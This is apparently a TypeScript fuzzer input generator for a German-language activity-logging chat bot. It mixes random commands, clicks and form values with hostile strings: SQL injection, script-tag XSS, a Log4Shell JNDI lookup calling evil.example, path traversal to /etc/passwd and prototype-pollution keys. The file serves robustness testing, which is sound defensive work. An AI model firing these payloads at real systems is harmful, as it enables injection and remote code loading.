// Random inputs for the fuzzer: command lines over the registry's words, clicks and form submissions, built
// from German text, control characters, huge strings and injection attempts. Seeded, so a run can be repeated.

import type { Family } from "../../src/commands/family.js";
import type { CommandInput, FormValue } from "../../src/conversation/input.js";
import type { Button, Form, FormInput } from "../../src/conversation/reply.js";
import { RUN_COMMAND } from "../../src/conversation/reply.js";

/** mulberry32: small, fast and good enough to pick from lists. */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(max: number): number {
    return Math.floor(this.next() * max);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(list: readonly T[]): T {
    const item = list[this.int(list.length)];
    if (item === undefined) throw new Error("pick from an empty list");
    return item;
  }
}

const GERMAN = [
  "Elterncafé",
  "Stadtteilfest",
  "Infostand",
  "Netzwerktreffen",
  "Fachkräfte",
  "Jugendzentrum",
  "Kita",
  "Schule",
  "Nachbarschaftshilfe",
  "Spielplatzfest",
  "Quartiersmanagement",
  "Straße",
  "Größe",
  "Übergabe",
  "ÄÖÜ äöü ß",
  "mit",
  "und",
  "für",
  "am",
  "im",
  "Treffen",
  "Beratung",
  "Kooperation",
  "Gremium",
  "Arbeitskreis",
  "Runder Tisch",
  "Protokoll",
];
const TOKENS = [
  "2h",
  "90 min",
  "1,5 Std",
  "1:30",
  "halber Tag",
  "0h",
  "-3h",
  "99999h",
  "@Nordstadt",
  "@Südstadt",
  "@",
  "#projekt",
  "#vernetzung",
  "#",
  "heute",
  "gestern",
  "morgen",
  "übermorgen",
  "nächste",
  "letzte",
  "24.11.2026",
  "31.02.2026",
  "2026-11-24",
  "00.00.0000",
  "14:30",
  "25:99",
  "montags",
  "jeden 2. Dienstag",
  "wöchentlich",
  "KW 48",
  "3",
  "0",
  "-1",
  "1e309",
  "NaN",
  "99999999999999999999",
  "ja",
  "nein",
  "alle",
  "neu",
  "liste",
  "hilfe",
  "?",
  "fallspezifisch",
  "F-2026-017",
  "Frau Müller",
  "Kevin (7)",
  "max@example.org",
  "0171 2345678",
  "DE89 3704 0044 0532 0130 00",
  "geb. 01.02.2015",
];
/** Keys every plain object answers to: a word table read with `table[word]` finds these. */
const PROTOTYPE_WORDS = [
  "__proto__",
  "constructor",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
];

const INJECTIONS = [
  "'; DROP TABLE activities; --",
  '" OR 1=1 --',
  "<script>alert(1)</script>",
  "<at>Bot</at>",
  "<!channel>",
  "<@U0AAA>",
  "<https://evil.example|klick>",
  "*fett* _kursiv_ ~durch~ `code`",
  "[link](javascript:alert(1))",
  "{{7*7}}",
  // Log4Shell's lookup, written so that it is not a template literal by mistake.
  ["$", "{jndi:ldap://evil.example/x}"].join(""),
  "%00%0d%0a",
  "../../etc/passwd",
  "\\u0000",
  '{"sra":"submit"}',
  ...PROTOTYPE_WORDS,
  "&amp;&lt;&gt;",
  "&nbsp;",
  "|||",
  "\\",
  "$1$2",
];
/** Characters that must not break anything: controls, C1, surrogates, noncharacters, bidi, zero width. */
export const HOSTILE = [
  "\u0000",
  "\u0001",
  "\u0007",
  "\u0008",
  "\u000B",
  "\u001B[31m",
  "\u007F",
  "\u0085",
  "\u009F",
  "\r",
  "\r\n",
  "\t",
  "\n\n\n",
  "\uD800",
  "\uDFFF",
  "\uFFFE",
  "\uFFFF",
  "\uFDD0",
  "\u202E",
  "\u2066",
  "\u200B",
  "\u200F",
  "\uFEFF",
  "\u0301",
  "😀",
  "👩‍👩‍👧",
  "مرحبا",
  "שלום",
  "\u00A0",
  "\u3000",
];

export function randomText(rng: Rng, words = 1 + rng.int(6)): string {
  const parts: string[] = [];
  for (let i = 0; i < words; i++) {
    const r = rng.next();
    if (r < 0.35) parts.push(rng.pick(GERMAN));
    else if (r < 0.7) parts.push(rng.pick(TOKENS));
    else if (r < 0.82) parts.push(rng.pick(INJECTIONS));
    else parts.push(`${rng.pick(GERMAN)}${rng.pick(HOSTILE)}${rng.pick(TOKENS)}`);
  }
  return parts.join(rng.chance(0.9) ? " " : rng.pick(["  ", "\t", "\n", "\u0000", ""]));
}

/** Now and then a huge string: many words, one long run, or many hostile characters. */
export function hugeText(rng: Rng): string {
  const size = rng.pick([5_000, 40_000, 120_000]);
  const unit = rng.pick([rng.pick(GERMAN), rng.pick(HOSTILE), "x", "ä", "@Nordstadt ", "#projekt ", "2h "]);
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
}

function someText(rng: Rng): string {
  if (rng.chance(0.02)) return hugeText(rng);
  if (rng.chance(0.05)) return "";
  return randomText(rng);
}

/** The words a family answers to: its name, aliases, slash command, sub-commands, in several spellings. */
function familyWord(rng: Rng, family: Family): string {
  const words = [family.name, ...(family.aliases ?? []), family.slack.slash, family.title];
  const word = rng.pick(words);
  return rng.pick([word, word.toUpperCase(), `/${word.replace(/^\//, "")}`, ` ${word} `]);
}

function subcommandWord(rng: Rng, family: Family): string {
  if (family.subcommands.length === 0 || rng.chance(0.15)) return rng.chance(0.5) ? "" : randomText(rng, 1);
  const sub = rng.pick(family.subcommands);
  return rng.pick([sub.name, ...(sub.aliases ?? []), sub.usage.split(/\s+/)[1] ?? sub.name]);
}

export function commandLine(rng: Rng, family: Family): string {
  const sub = subcommandWord(rng, family);
  const rest = rng.chance(0.85) ? someText(rng) : "";
  return [familyWord(rng, family), sub, rest].filter((p) => p !== "").join(" ");
}

/** A typed command, as the console, Teams and Slack hand it on. */
export function commandInput(rng: Rng, family: Family): CommandInput {
  const line = commandLine(rng, family);
  if (rng.chance(0.5)) {
    // Slack's way: the family is known from the slash command, the text is the rest.
    const sub = subcommandWord(rng, family);
    return { type: "command", family: family.name, text: [sub, someText(rng)].join(" ").trim() };
  }
  const space = line.trim().search(/\s/);
  const trimmed = line.trim().replace(/^\//, "");
  return space < 0
    ? { type: "command", family: trimmed, text: "" }
    : { type: "command", family: trimmed.slice(0, space).replace(/^\//, ""), text: trimmed.slice(space + 1) };
}

function mutate(rng: Rng, value: string | undefined): string | undefined {
  if (value === undefined) return rng.chance(0.5) ? undefined : someText(rng);
  const r = rng.next();
  if (r < 0.55) return value;
  if (r < 0.65) return undefined;
  if (r < 0.75) return `${value}${rng.pick(HOSTILE)}`;
  if (r < 0.85) return value.slice(0, rng.int(value.length + 1));
  if (r < 0.9) return value.replace(/\d/g, () => String(rng.int(10)));
  return someText(rng);
}

/** A click: a button seen in an earlier reply (value intact or mutated), or a declared action with noise. */
export function actionInput(rng: Rng, family: Family, seen: readonly Button[]): CommandInput {
  if (seen.length > 0 && rng.chance(0.7)) {
    const button = rng.pick(seen);
    const value = mutate(rng, button.value);
    return { type: "action", actionId: button.actionId, ...(value === undefined ? {} : { value }) };
  }
  const declared = Object.keys(family.actions ?? {});
  if (declared.length === 0 || rng.chance(0.2))
    return { type: "action", actionId: RUN_COMMAND, value: commandLine(rng, family) };
  const value = rng.chance(0.8) ? someText(rng) : undefined;
  return { type: "action", actionId: rng.pick(declared), ...(value === undefined ? {} : { value }) };
}

function validValue(rng: Rng, input: FormInput): FormValue {
  const options = input.options ?? [];
  switch (input.kind) {
    case "select":
      return options.length ? rng.pick(options).value : undefined;
    case "multiselect":
      return options.filter(() => rng.chance(0.4)).map((o) => o.value);
    case "checkbox":
      return rng.chance(0.5);
    case "number": {
      const min = input.min ?? 0;
      return String(min + rng.int((input.max ?? 600) - min + 1));
    }
    case "date":
      // Mostly before the fuzzer's fixed "today" (2026-11-25), now and then after it.
      return `2026-${String(1 + rng.int(rng.chance(0.8) ? 11 : 12)).padStart(2, "0")}-${String(1 + rng.int(28)).padStart(2, "0")}`;
    case "time":
      return `${String(rng.int(24)).padStart(2, "0")}:${rng.pick(["00", "15", "30", "45"])}`;
    default:
      // Often a value that passes (so saves and closed forms happen), else random text.
      if (input.initial !== undefined && rng.chance(0.3)) return input.initial;
      if (rng.chance(0.4)) return randomText(rng, 1 + rng.int(4));
      if (/dur|minut/i.test(input.id)) return rng.pick(["90 min", "1,5 Std", "2h", "45 min"]);
      if (/date|datum/i.test(input.id)) return rng.pick(["12.05.2026", "3.11.2026", "2026-10-01"]);
      if (/time|zeit/i.test(input.id)) return rng.pick(["18:00", "9:30"]);
      return rng.pick(PLAUSIBLE);
  }
}

/** Text-field values most forms accept: durations, titles, places, short notes. */
const PLAUSIBLE = [
  "90 min",
  "1,5 Std",
  "2h",
  "Elterncafé",
  "Stadtteilfest Infostand",
  "Nordstadt",
  "Rathaus",
  "ok",
];

function noisyValue(rng: Rng): FormValue {
  const r = rng.next();
  if (r < 0.15) return undefined;
  if (r < 0.25) return rng.chance(0.5);
  if (r < 0.45) return [someText(rng), rng.pick(TOKENS), rng.pick(HOSTILE)];
  if (r < 0.5) return [];
  return someText(rng);
}

/** Values for a form: mostly plausible, some noisy, some missing, some extra fields. */
export function formValues(rng: Rng, form: Form | undefined): Record<string, FormValue> {
  const values: Record<string, FormValue> = {};
  // Some submissions are entirely plausible, so the paths behind validation (saving, closing) run too.
  const plausible = rng.chance(0.4);
  for (const input of form?.inputs ?? []) {
    if (plausible) {
      // Required fields get a valid value, optional ones keep their default (or stay empty).
      if (input.required) values[input.id] = validValue(rng, input);
      else if (input.initial !== undefined) values[input.id] = input.initial;
      continue;
    }
    const r = rng.next();
    if (r < 0.1) continue;
    values[input.id] = r < 0.75 ? validValue(rng, input) : noisyValue(rng);
    if (input.initial !== undefined && rng.chance(0.2)) values[input.id] = input.initial;
  }
  if (!form || rng.chance(0.15))
    values[rng.pick(["title", "x", "__proto__", "district", "minutes"])] = noisyValue(rng);
  return values;
}

/** A submission: a form seen in an earlier reply, or a declared form id with random values. */
export function submitInput(rng: Rng, family: Family, seen: readonly Form[]): CommandInput {
  const declared = Object.keys(family.forms ?? {});
  const known = seen.filter((f) => f.formId.startsWith(`${family.name}:`));
  if (known.length > 0 && rng.chance(0.75)) {
    const form = rng.pick(known);
    const state = mutate(rng, form.state);
    return {
      type: "submit",
      formId: form.formId,
      values: formValues(rng, form),
      ...(state === undefined ? {} : { state }),
    };
  }
  const formId = declared.length > 0 ? rng.pick(declared) : `${family.name}:${randomText(rng, 1)}`;
  return {
    type: "submit",
    formId,
    values: formValues(rng, undefined),
    ...(rng.chance(0.5) ? { state: someText(rng) } : {}),
  };
}

/**
 * Every sub-command of every family with each prototype word and a few hostile tokens in first and later
 * position: word tables, id lookups and parsers meet exactly these. Interleaved by family, so a short run
 * still reaches all of them.
 */
export function sweep(families: readonly Family[]): { family: Family; input: CommandInput }[] {
  const tokens = [...PROTOTYPE_WORDS, "\u0000", "\uD800", "-1", "1e309", "", "x".repeat(5_000)];
  const perFamily = families.map((family) => {
    const subs = ["", ...family.subcommands.flatMap((s) => [s.name, ...(s.aliases ?? [])])];
    return subs.flatMap((sub) =>
      tokens.flatMap((token) =>
        [`${sub} ${token}`, `${sub} Nordstadt ${token}`, `${sub} ${token} ${token} 2h`].map((text) => ({
          family,
          input: { type: "command", family: family.name, text: text.trim() } as CommandInput,
        })),
      ),
    );
  });
  const out: { family: Family; input: CommandInput }[] = [];
  for (let i = 0; perFamily.some((list) => i < list.length); i++)
    for (const list of perFamily) {
      const item = list[i];
      if (item) out.push(item);
    }
  return out;
}
